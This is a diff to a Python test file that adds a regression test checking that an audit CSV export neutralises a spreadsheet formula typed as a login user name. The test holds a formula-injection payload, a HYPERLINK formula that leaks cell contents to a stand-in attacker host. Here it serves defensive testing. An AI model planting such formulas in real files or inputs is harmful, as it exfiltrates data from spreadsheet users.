@@ -10,7 +10,9 @@ import pytest
 from openpyxl import load_workbook
 
 from armsbridge.audit import service as audit
+from armsbridge.auth import service as auth_service
 from armsbridge.auth.principal import Principal
+from armsbridge.errors import UserError
 from armsbridge.indicators.iafq import write_iafq_xlsx
 from armsbridge.matching.linkfiles import link_files
 from armsbridge.records import service
@@ -101,3 +103,15 @@ def test_xlsx_reports_hold_text_not_formulas(tmp_path):
     ws = load_workbook(path)["sheet"]
     assert (ws["A5"].value, ws["A5"].data_type) == ("'" + ATTACKS[0], "s")
     assert (ws["B5"].value, ws["B6"].value, ws["A6"].value) == (3, -1, "'-")
+
+
+def test_a_formula_typed_as_a_user_name_at_sign_in_is_neutralised_in_the_audit_csv(session):
+    planted = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    with pytest.raises(UserError):
+        auth_service.authenticate(session, username=planted, password="x", client="203.0.113.9")
+    auditor = Principal(id=1, username="auditor_xk", role="auditor", jurisdiction="XK")
+    out = io.StringIO()
+    audit.export_csv(session, user=auditor, out=out, filters=audit.EntryFilters())
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert any(row["actor"] == "'" + planted for row in rows), [r["actor"] for r in rows]
+    assert not any(v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values() if v)
